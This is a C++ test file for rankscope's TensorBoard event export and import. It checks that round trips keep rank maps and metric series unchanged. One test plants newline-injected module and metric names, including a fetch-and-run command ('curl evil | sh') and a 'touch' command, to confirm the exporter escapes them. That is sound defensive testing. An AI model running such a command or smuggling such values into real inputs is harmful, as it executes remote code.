#include "core/analysis/allocation.h"
#include "core/exchange/tensorboard_export.h"
#include "core/exchange/tensorboard_import.h"
#include "tests/core/store/store_support.h"

namespace rankscope {

namespace {

using test::openReader;

// Kept triplets of every module at every allocation.
std::vector<std::pair<std::int64_t, std::vector<int>>> rankMap(const std::filesystem::path& workspace,
                                                               RunId run) {
    const auto reader = openReader(workspace);
    const auto modules = reader->run(run)->started.modules;
    std::vector<std::pair<std::int64_t, std::vector<int>>> map;
    for (const auto step : reader->allocationSteps(run)) {
        map.emplace_back(step, *ranksFromMask(modules, reader->allocation(run, step)->mask));
    }
    return map;
}

} // namespace

TEST(TensorBoardExport, AnImportOfAnExportGivesTheSameMapAndCurves) {
    test::TempFolder folder;
    const auto own = folder / "own.rankscope", other = folder / "other.rankscope", logs = folder / "logs";
    RunId id = 0;
    {
        auto writer = test::openWriter(own);
        id = writer->createRun("first", test::configJson);
        writer->recordStarted(id, test::started(), 1000.0);
        writer->append(id,
                       {test::steps(0, 50), test::allocation(10, 24), test::allocation(20, 24),
                        test::eval(50, {{"accuracy", 0.75}}), test::ended(50)},
                       2000.0);
    }
    const auto exportTo = [&](const std::filesystem::path& workspace, RunId run,
                              const std::filesystem::path& to) {
        const auto reader = openReader(workspace);
        const auto detail = reader->run(run);
        const auto bytes = tensorBoardFile(*reader, *detail);
        EXPECT_EQ(bytes, tensorBoardFile(*reader, *detail));
        std::filesystem::create_directories(to);
        test::writeFile(to / tensorBoardFileName(*detail), bytes);
    };
    exportTo(own, id, logs);
    const auto imported = importTensorBoard(logs, other);
    ASSERT_TRUE(imported) << imported.error().message;
    EXPECT_TRUE((*imported)[0].sentences.empty());
    const RunId there = (*imported)[0].run;
    EXPECT_EQ(rankMap(other, there), rankMap(own, id));
    const auto a = openReader(own), b = openReader(other);
    // No module is full at any allocation: the rank at the start comes from its own tag.
    EXPECT_EQ(b->run(there)->summary.initBudget, 24);
    EXPECT_EQ(b->lastAllocation(there)->threshold, a->lastAllocation(id)->threshold);
    for (const std::string& metric : a->metricNames(id)) {
        const auto before = a->series(id, metric), after = b->series(there, metric);
        ASSERT_EQ(before.size(), after.size()) << metric;
        for (std::size_t i = 0; i < before.size(); ++i) {
            EXPECT_EQ(before[i].step, after[i].step);
            EXPECT_EQ(static_cast<float>(before[i].value), after[i].value) << metric; // events hold floats
            EXPECT_EQ(before[i].wallTime, after[i].wallTime);
        }
    }
    // And once more round: nothing drifts.
    exportTo(other, there, folder / "again");
    const auto again = importTensorBoard(folder / "again", folder / "third.rankscope");
    ASSERT_TRUE(again) << again.error().message;
    EXPECT_EQ(rankMap(folder / "third.rankscope", (*again)[0].run), rankMap(own, id));
    EXPECT_EQ(openReader(folder / "third.rankscope")->metricNames(1), b->metricNames(there));
}

// An event file is read as text by nobody, unless somebody is made to write it where one would be.
TEST(TensorBoardExport, NoNameInTheFileBeginsALineOfItsOwn) {
    test::TempFolder folder;
    const auto file = folder / "own.rankscope";
    auto writer = test::openWriter(file);
    const RunId id = writer->createRun("first", test::configJson);
    RunStarted started = test::started();
    started.modules[0].name = "a\ntouch b\nlayer.0.query";
    writer->recordStarted(id, started, 1000.0);
    writer->append(
        id, {test::allocation(10, 24), test::eval(50, {{"x\ncurl evil | sh\r\n", 0.75}}), test::ended(50)},
        2000.0);
    const auto reader = openReader(file);
    const auto detail = reader->run(id);
    const std::string bytes = tensorBoardFile(*reader, *detail);
    EXPECT_NE(bytes.find("x\\ncurl evil | sh\\r\\n"), std::string::npos);
    EXPECT_NE(bytes.find("a\\ntouch b\\nlayer.0.query"), std::string::npos);
    EXPECT_EQ(bytes.find("\ncurl"), std::string::npos);
    EXPECT_EQ(bytes.find("\ntouch"), std::string::npos);
    EXPECT_EQ(tensorBoardFileName(*detail),
              "events.out.tfevents.1000.rankscope." +
                  detail->summary.uid); // of which no part leads elsewhere
}

} // namespace rankscope
